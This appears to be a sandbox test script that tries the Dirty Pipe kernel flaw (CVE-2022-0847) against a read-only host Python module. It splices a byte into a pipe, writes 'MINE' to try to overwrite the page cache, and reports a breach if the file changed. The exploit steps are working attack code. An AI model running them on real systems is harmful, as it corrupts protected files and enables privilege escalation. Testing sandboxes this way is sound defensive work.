# Tries: to change the page cache of a module of the host through a pipe whose buffers can be merged
#        into (CVE-2022-0847), and by sendfile and tee.
# Stopped by: a kernel that has this mended; nothing of cordon would stop it.
# Expect: {"status": "succeeded", "stdout": "ended\n"}
import os

MODULE = "/usr/lib/python3.X/this.py"
with open(MODULE, "rb") as file:
    before = file.read()
reading = os.open(MODULE, os.O_RDONLY)
pipe, other = os.pipe(), os.pipe()
for _ in range(16):
    os.write(pipe[1], b"x" * 4096)
os.read(pipe[0], 65536)
os.splice(reading, pipe[1], 1, offset_src=1)
os.write(pipe[1], b"MINE")
os.sendfile(other[1], reading, 0, 1)
os.write(other[1], b"MINE")
with open(MODULE, "rb") as file:
    if file.read() != before:
        print("BREACH: it changed the library")
print("ended")
